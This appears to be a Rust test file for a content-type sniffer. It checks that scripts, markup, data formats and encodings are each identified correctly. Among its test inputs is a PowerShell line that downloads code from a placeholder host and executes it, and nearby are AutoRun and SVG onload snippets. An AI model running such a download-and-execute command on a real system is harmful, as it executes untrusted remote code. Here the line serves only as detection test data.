use super::*;

fn kind(text: &str) -> &'static str {
    Text::decode(text.as_bytes(), false).expect("text").kind().unwrap_or("text/plain")
}

#[test]
fn scripts_are_told_by_what_they_ask_for() {
    for (line, name) in [
        ("#!/bin/sh", "text/x-shellscript"),
        ("#!/usr/bin/env python3", "text/x-python"),
        ("#! /usr/bin/env -S PATH=/x python3.11 -u", "text/x-python"),
        ("#!/usr/bin/perl -w", "text/x-perl"),
        ("#!/usr/bin/env node", "text/javascript"),
        ("#!/usr/bin/pwsh", "application/x-powershell"),
        ("#!/usr/bin/ruby2.7", "text/x-ruby"),
        ("#!/opt/nobody/knows", "text/x-shellscript"),
        ("#!", "text/x-shellscript"),
        ("\u{feff}#!/bin/bash", "text/x-shellscript"),
    ] {
        assert_eq!(kind(&format!("{line}\nx\n")), name, "{line}");
    }
}

#[test]
fn scripts_that_do_not_say_so_are_told_by_their_lines() {
    for (text, name) in [
        ("$x = New-Object Net.WebClient\nWrite-Host $env:TEMP\n", "application/x-powershell"),
        ("iex (new-object net.webclient).downloadstring('http://x.example')", "application/x-powershell"),
        (
            "param(\n  [Parameter(Mandatory)] $Name\n)\nGet-ChildItem $Name | ForEach-Object { $_.Name }\n",
            "application/x-powershell",
        ),
        ("@ECHO OFF\r\nset A=1\r\n", "text/x-msdos-batch"),
        ("@rem x\r\n", "text/x-msdos-batch"),
        ("if exist %TEMP%\\x.txt goto end\r\nxcopy a b\r\n:end\r\n", "text/x-msdos-batch"),
        ("Dim shell\r\nSet shell = CreateObject(\"X\")\r\n", "text/vbscript"),
        ("Attribute VB_Name = \"Module1\"\r\nSub x()\r\nEnd Sub\r\n", "text/vbscript"),
        ("var x = new ActiveXObject('X');\n", "text/javascript"),
        ("'use strict';\nmodule.exports = 1;\n", "text/javascript"),
        ("import { x } from './y.js';\nexport default x;\n", "text/javascript"),
        ("var a=(b,c)=>{let d=b;return d[c]}", "text/javascript"),
        ("export function turn(a) {\n  return a.b;\n}\n", "text/javascript"),
        ("(function () {\n  document.title = 'x';\n})();\n", "text/javascript"),
        ("import os\n\ndef f(a):\n    return os.getcwd()\n", "text/x-python"),
        ("from os import path\n", "text/x-python"),
        ("class Late(Warning):\n    \"\"\"Told when it is late.\"\"\"\n", "text/x-python"),
        ("use strict;\nuse warnings;\nmy $x = 1;\n", "text/x-perl"),
        ("require 'x'\nclass A < B\n  def c\n  end\nend\n", "text/x-ruby"),
        ("local function f(a)\n  return a\nend\n", "text/x-lua"),
        ("proc f {a} {\n  set b $a\n}\n", "text/x-tcl"),
        ("set -e\nfor f in a b; do\n  rm -f \"$f\"\ndone\n", "text/x-shellscript"),
        ("hello <?php echo 1; ?>", "text/x-php"),
        ("<?php echo 1;", "text/x-php"),
        ("<%@ page import=\"x\" %>", "application/x-asp"),
        ("tell application \"Finder\"\nend tell\n", "text/x-applescript"),
        ("<job id='x'><script language='VBScript'>x</script></job>", "application/x-wsf"),
        ("<?xml version='1.0'?><package><job><script>x</script></job></package>", "application/x-wsf"),
        ("Windows Registry Editor Version 5.00\r\n", "text/x-ms-regedit"),
        ("[Version]\r\nSignature=\"$CHICAGO$\"\r\n", "application/x-setupscript"),
    ] {
        assert_eq!(kind(text), name, "{text}");
    }
}

#[test]
fn prose_and_sources_for_compilers_are_no_scripts() {
    for text in [
        "Dear all,\n\nlet us meet and import the goods. Set the date, for example, to Monday.\n",
        "Let us read the document. Then\nlet us open the window. So it is.\n",
        "Use New-Object when you must, said the administrator.\n",
        "#include <stdio.h>\nint main(void) { return 0; }\n",
        "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(1) }\n",
        "import java.util.List;\n\npublic class A {\n  void f() {}\n}\n",
        "# A heading\n\n- a list\n- of things\n\nfrom here to there.\n",
        "all: a.o\n\tcc -o a a.o\n\t$(STRIP) a\n",
        "Goods for\nexport function as before.\n",
        "select * from t where a = 1;\n",
        "[section]\nkey = value\n",
    ] {
        assert_eq!(kind(text), "text/plain", "{text}");
    }
}

#[test]
fn markup_is_told_by_its_root_whatever_stands_before_it() {
    for (text, name) in [
        ("<!DOCTYPE html><p>", "text/html"),
        ("\n\t <HTML>", "text/html"),
        ("<!-- x --><div>", "text/html"),
        ("<p>x</p>", "text/html"),
        ("just a line\n<script src=x></script>\n", "text/html"),
        ("<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        ("<?xml version='1.0'?>\n<!-- x -->\n<svg/>", "image/svg+xml"),
        ("<?xml version='1.0'?><!DOCTYPE svg PUBLIC 'x' [<!ENTITY a '>'>]><svg/>", "image/svg+xml"),
        ("<s:svg xmlns:s='http://www.w3.org/2000/svg'/>", "image/svg+xml"),
        ("<!-- never ended <svg onload=x>", "image/svg+xml"),
        ("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "application/xhtml+xml"),
        ("<?xml version='1.0'?><a/>", "text/xml"),
        ("<a:b xmlns:a='x'/>", "text/xml"),
        ("<3 you", "text/plain"),
        ("<nobody@example.org>", "text/plain"),
    ] {
        assert_eq!(kind(text), name, "{text}");
    }
    assert_eq!(kind(&format!("<!--{}--><svg/>", "x".repeat(3000))), "image/svg+xml");
}

#[test]
fn forms_of_text_are_named() {
    for (text, name) in [
        ("{\"a\": [1, 2]}\n", "application/json"),
        ("[1, 2]", "application/json"),
        ("{not json}", "text/plain"),
        ("a,b\n1,2\n3,4\n5,6\n", "text/csv"),
        ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "text/calendar"),
        ("BEGIN:VCARD\r\n", "text/vcard"),
        ("From: a@x.example\nTo: b@x.example\nSubject: c\n\nText\n", "message/rfc822"),
        ("{\\rtf1\\ansi x}", "application/rtf"),
        ("junk{\\rtf1 x}", "application/rtf"),
        ("; a disk\n[AutoRun]\nopen=a.exe\n", "application/x-setupscript"),
        (".\\\" a page\n.TH X 1\n", "text/troff"),
    ] {
        assert_eq!(kind(text), name, "{text}");
    }
}

#[test]
fn text_is_read_in_the_encodings_that_it_comes_in() {
    let wide = |text: &str, little: bool| -> Vec<u8> {
        let bytes = if little { u16::to_le_bytes } else { u16::to_be_bytes };
        text.encode_utf16().flat_map(bytes).collect()
    };
    let html = "<html><p>Grüße</p></html>";
    for bytes in [
        [b"\xff\xfe", &wide(html, true)[..]].concat(),
        [b"\xfe\xff", &wide(html, false)[..]].concat(),
        wide(html, true),
        wide(html, false),
        [b"\xef\xbb\xbf", html.as_bytes()].concat(),
    ] {
        let text = Text::decode(&bytes, false).unwrap_or_else(|| panic!("{}", bytes.escape_ascii()));
        assert_eq!(text.kind(), Some("text/html"), "{}", bytes.escape_ascii());
    }
    assert!(Text::decode(&b"Gr\xfc\xdfe aus der Quarant\xe4ne. ".repeat(4), false).is_some(), "Latin-1");
    assert!(
        Text::decode(&b"\xc7\xe4\xf0\xe0\xe2\xf1\xf2\xe2\xf3\xe9\xf2\xe5 ".repeat(30), false).is_some(),
        "Cyrillic"
    );
    assert!(Text::decode("検疫".as_bytes().split_last().unwrap().1, true).is_some(), "cut within a character");
    for bytes in [&b"gr\xfcn"[..], b"a\0b", b"\xff\xfe", b"\xff\xfea", b"\x01\x02\x03\x04"] {
        assert!(Text::decode(bytes, false).is_none(), "{}", bytes.escape_ascii());
    }
}
